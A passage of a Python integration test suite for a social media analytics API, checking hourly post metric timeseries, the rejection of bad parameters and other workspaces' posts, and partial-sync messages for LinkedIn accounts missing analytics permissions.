    now = [await sandbox_now(sandbox)]
    fetch = workers("growth", clock=lambda: now[0])
    posts = await ingested(db, [account_id], drain=fetch.drain)
    post = max((p for p in posts if p["gap"] is None), key=lambda p: p["platform_post_id"])

    async def truth() -> dict[str, int]:
        answer = await sandbox.get(f"/_sandbox/truth/x/{post['platform_post_id']}")
        public = answer.json()["metrics"]["public_metrics"]
        return {"likes": public["like_count"], "impressions": public["impression_count"]}

    said = [await truth()]
    for _ in range(2):
        (await sandbox.post("/_sandbox/clock/advance", json={"seconds": 3600})).raise_for_status()
        now[0] = await sandbox_now(sandbox)
        await cooled_down(db, ws)
        sync = await api.post(
            f"/api/v1/analytics/refresh/{account_id}", headers=owner.headers, json={}
        )
        assert sync.status_code == 202, sync.text
        await fetch.drain()

        async def snapshot_at(at: datetime = now[0]) -> bool | None:
            found = await rows(
                db,
                "SELECT 1 FROM analytics.post_snapshots WHERE tracked_post_id = :id"
                " AND fetched_at = :at",
                id=post["id"],
                at=at,
            )
            return True if found else None

        await until(snapshot_at, "the hour's fetch ingested")
        said.append(await truth())
    assert said[0] != said[-1]  # the post grew: the curve has something to show

    first = now[0] - timedelta(hours=2)
    start = first.replace(minute=0, second=0, microsecond=0)
    answer = await api.get(
        f"/api/v1/analytics/posts/{post['id']}/timeseries",
        params={
            "metrics": "likes,impressions",
            "interval": "hour",
            "from": start.isoformat(),
            "to": (start + timedelta(hours=4)).isoformat(),
        },
        headers=owner.headers,
    )
    assert answer.status_code == 200, answer.text
    body = answer.json()
    assert body["metrics"] == ["likes", "impressions"] and body["interval"] == "hour"
    [series] = body["targets"]
    assert series["id"] == str(post["id"]) and series["platform"] == "x"
    assert [b["values"] for b in series["buckets"]] == [
        *said,
        {"likes": None, "impressions": None},
    ]

    # Refused in words: an unknown metric, a week bucket, another workspace's post.
    for params in ({"metrics": "likes,followers"}, {"interval": "week"}):
        bad = await api.get(
            f"/api/v1/analytics/posts/{post['id']}/timeseries",
            params=params,
            headers=owner.headers,
        )
        assert bad.status_code in (400, 422) and "error" in bad.json(), bad.text
    stranger, _ = await owner_with_workspace(api, name="Stranger")
    hidden = await api.get(
        f"/api/v1/analytics/posts/{post['id']}/timeseries", headers=stranger.headers
    )
    assert hidden.status_code == 404 and hidden.json()["error"] == "PostNotFound"


async def test_a_member_connected_without_the_analytics_scopes_is_told_why_per_account(
    api: httpx.AsyncClient, workers: WorkerSets, db: Database
) -> None:
    """A LinkedIn member connected before the member analytics scopes were asked: the
    refresh is partial, and both the sync and the workspace's sync status say which account
    and why, in words that name the permission and say to reconnect."""
    owner, ws = await owner_with_workspace(api)
    name = f"li{uuid.uuid4().hex[:8]}"
    accounts = await connect_account(
        api, owner, ws, "linkedin", name, scopes="openid profile w_member_social"
    )
    [member] = [
        uuid.UUID(str(a["id"])) for a in accounts if not str(a["platform_user_id"]).isdigit()
    ]

    async def tracked() -> bool | None:
        found = await rows(
            db, "SELECT 1 FROM analytics.accounts WHERE id = :id AND tracking", id=member
        )
        return True if found else None

    await until(tracked, "analytics tracking the account")
    fetch = workers("scopes")
    await fetch.drain()
    await cooled_down(db, ws)
    sync = await api.post(f"/api/v1/analytics/refresh/{member}", headers=owner.headers, json={})
    assert sync.status_code == 202, sync.text

    async def finished() -> dict[str, Any] | None:
        await fetch.drain()  # as running workers would, however long the ingester holds rows
        answer = await api.get(
            f"/api/v1/analytics/sync/{sync.json()['sync_id']}", headers=owner.headers
        )
        body: dict[str, Any] = answer.json()
        return body if body["status"] not in ("queued", "running") else None

    done = await until(finished, "the refresh finished")
    assert done["status"] == "partial" and done["failed"] == done["total_posts"] > 0
    [problem] = done["problems"]
    assert problem["account_id"] == str(member) and problem["platform"] == "linkedin"
    assert "r_member_" in problem["reason"] and "reconnect the account" in problem["reason"]
    status = await api.get(
        "/api/v1/analytics/sync-status", params={"workspace_id": ws}, headers=owner.headers
    )
    [account] = [a for a in status.json()["accounts"] if a["account_id"] == str(member)]
    assert "reconnect the account" in account["problem"] and account["problem_at"]
